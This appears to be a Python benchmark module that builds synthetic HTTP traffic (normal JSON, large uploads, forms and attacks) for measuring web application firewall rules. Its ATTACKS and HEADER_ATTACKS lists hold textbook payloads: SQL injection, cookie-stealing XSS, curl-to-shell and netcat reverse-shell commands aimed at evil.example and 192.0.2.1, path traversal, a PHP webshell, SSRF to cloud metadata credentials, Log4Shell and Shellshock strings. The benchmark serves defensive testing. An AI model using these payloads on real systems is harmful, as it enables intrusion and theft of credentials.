"""The kinds of traffic that rules are measured with: the mix as it is, large bodies, forms, and attacks."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from typing import Final
from urllib.parse import urlencode

from benchmarks.mix import AGENTS, VARIANTS, Mix, browser, caller, get, order, partner, post

FORM: Final = "application/x-www-form-urlencoded"
LARGE_BYTES: Final = 64 * 1024
LARGE_ITEMS: Final = 100
"""Of eight values each: Debian's configuration of ModSecurity refuses a request of a thousand."""

LARGE_VARIANTS: Final = 8

ATTACKS: Final = (
    ("sqli", "1' OR '1'='1' -- "),
    ("sqli", "1 UNION SELECT username, password FROM users-- "),
    ("sqli", "'; DROP TABLE orders; -- "),
    ("sqli", "1' AND SLEEP(5) AND 'a'='a"),
    ("sqli", "1' AND extractvalue(1, concat(0x7e, (SELECT password FROM users LIMIT 1)))-- -"),
    ("xss", "<script>alert(document.cookie)</script>"),
    ("xss", '"><img src=x onerror=alert(1)>'),
    ("xss", "<svg/onload=fetch('//evil.example/'+document.cookie)>"),
    ("xss", "<iframe src=javascript:alert(document.domain)></iframe>"),
    ("rce", "127.0.0.1; cat /etc/passwd"),
    ("rce", "$(curl http://evil.example/x.sh | sh)"),
    ("rce", "x | nc -e /bin/sh 192.0.2.1 4444"),
    ("rce", "127.0.0.1 && wget http://evil.example/a -O /tmp/a"),
    ("lfi", "../../../../etc/passwd"),
    ("lfi", "..\\..\\..\\..\\windows\\win.ini"),
    ("lfi", "../../../../proc/self/environ"),
    ("rfi", "http://192.0.2.66/shell.txt?cmd=id"),
    ("php", "<?php system($_GET['c']); ?>"),
    ("php", "php://filter/convert.base64-encode/resource=index.php"),
    ("php", 'O:8:"Template":1:{s:4:"file";s:11:"/etc/passwd";}'),
    ("node", "process.mainModule.require('child_process').exec('id')"),
    ("ssrf", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("java", "${jndi:ldap://evil.example/a}"),
    ("java", "java.lang.Runtime.getRuntime().exec('id')"),
)  # fmt: skip
"""Textbook attacks and their families, of all kinds that CRS looks for at paranoia level 1. Each goes into a
parameter of the query, a field of a form and a value of JSON."""

HEADER_ATTACKS: Final = (
    ("User-Agent", "() { :;}; /bin/bash -c 'cat /etc/passwd'"),
    ("User-Agent", "${jndi:ldap://evil.example/a}"),
    ("User-Agent", "<script>alert(1)</script>"),
    ("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
    ("Cookie", "session=1' UNION SELECT password FROM users-- ; theme=dark"),
    ("Cookie", "session=4f1c; theme=<script>alert(document.cookie)</script>"),
    ("Cookie", "session=4f1c; lang=../../../../etc/passwd"),
    ("Referer", "https://evil.example/${jndi:ldap://evil.example/a}"),
)
"""Attacks in headers, in place of what the browser sends there."""


@dataclass(frozen=True)
class Kind:
    """A kind of traffic.

    Attributes:
        name: as rows call it.
        requests: raw HTTP/1.1 requests, sent in turn.
        malicious: each of them is an attack.
        connections: over how many they are sent. Few for large ones: what waits at the end is not counted.
        seconds: for how long, in each round.
    """

    name: str
    requests: list[bytes]
    malicious: bool = False
    connections: int = 32
    seconds: int = 2


def kinds(mix: Mix) -> list[Kind]:
    """The four kinds; the same at every call but for tokens."""
    chance = random.Random(11)  # noqa: S311 - the same traffic in every run
    large = [_large(chance, mix.api_keys[n]) for n in range(LARGE_VARIANTS)]
    forms = [_form(chance, n, "Could you tell me when the red ones are back?") for n in range(VARIANTS)]
    return [
        Kind("json mix", mix.requests),
        Kind("json 64 KB", large, connections=2, seconds=3),
        Kind("form", forms),
        Kind("attacks", list(_attacks(chance, mix.api_keys)), malicious=True),
    ]


def _large(chance: random.Random, key: str) -> bytes:
    """A catalogue as a partner uploads it: 64 KB of JSON in some eight hundred values."""
    text = "A comfortable shoe for long days, made of soft leather that breathes well in summer. "
    items = [
        {
            "sku": f"SKU-{chance.randrange(10**6):06}", "name": f"Runner {chance.randrange(100)}",
            "price": chance.randrange(1_000, 20_000) / 100, "currency": "GBP", "stock": chance.randrange(200),
            "colour": "red", "visible": True, "description": "",
        }
        for _ in range(LARGE_ITEMS)
    ]  # fmt: skip
    rest = LARGE_BYTES - len(json.dumps({"items": items}))
    for number, item in enumerate(items):
        length = rest // LARGE_ITEMS + (number < rest % LARGE_ITEMS)
        item["description"] = (text * (length // len(text) + 1))[:length]
    body = json.dumps({"items": items}).encode()
    return post("/api/v1/import", partner(caller(chance, 0), key), "application/json", body)


def _form(chance: random.Random, number: int, message: str) -> bytes:
    """A message to the shop, from a page's form."""
    fields = {
        "name": "Ada Example", "email": f"ada{number}@example.com", "phone": "+44 117 496 0123",
        "topic": "delivery", "order": str(chance.randrange(10**6)), "message": message,
        "newsletter": "on", "csrf": f"{chance.getrandbits(128):032x}",
    }  # fmt: skip
    return post("/api/v1/messages", _headers(chance, number), FORM, urlencode(fields).encode())


def _headers(chance: random.Random, number: int) -> list[tuple[str, str]]:
    session = f"{chance.getrandbits(128):032x}"
    return browser(AGENTS[number % len(AGENTS)], caller(chance, number), session)


def _attacks(chance: random.Random, keys: Sequence[str]) -> Iterator[bytes]:
    """The requests of the mix and the form, each with an attack in it: every attack in every place."""
    for number in range(max(VARIANTS, len(ATTACKS))):
        _, text = ATTACKS[number % len(ATTACKS)]
        name, value = HEADER_ATTACKS[number % len(HEADER_ATTACKS)]
        query = urlencode({"page": number % 9, "per_page": 20, "sort": "-price", "q": text})
        replaced = [(each, value if each == name else usual) for each, usual in _headers(chance, number)]
        yield get(f"/api/v1/products?{query}", _headers(chance, number))
        yield _form(chance, number, text)
        yield order(chance, caller(chance, number), keys[number % len(keys)], note=text)
        yield get(f"/api/v1/products/{chance.randrange(1_000, 99_999)}", replaced)
